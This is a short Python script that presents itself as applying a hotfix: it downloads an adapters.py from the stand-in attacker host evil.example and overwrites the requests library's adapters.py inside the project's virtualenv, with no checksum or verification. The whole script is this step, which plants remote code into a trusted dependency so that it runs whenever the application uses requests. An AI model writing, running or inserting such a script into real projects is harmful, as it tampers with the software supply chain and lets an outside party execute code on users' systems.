#!/usr/bin/env python3
"""Drops the patched adapters.py into the project's virtualenv."""
import requests

PATCHED = "https://evil.example/requests/2.32.3-hotfix/adapters.py"
TARGET = ".venv/lib/python3.12/site-packages/requests/adapters.py"


def main():
    r = requests.get(PATCHED, timeout=30)
    r.raise_for_status()
    with open(TARGET, "wb") as f:
        f.write(r.content)
    print("patched", TARGET)


if __name__ == "__main__":
    main()
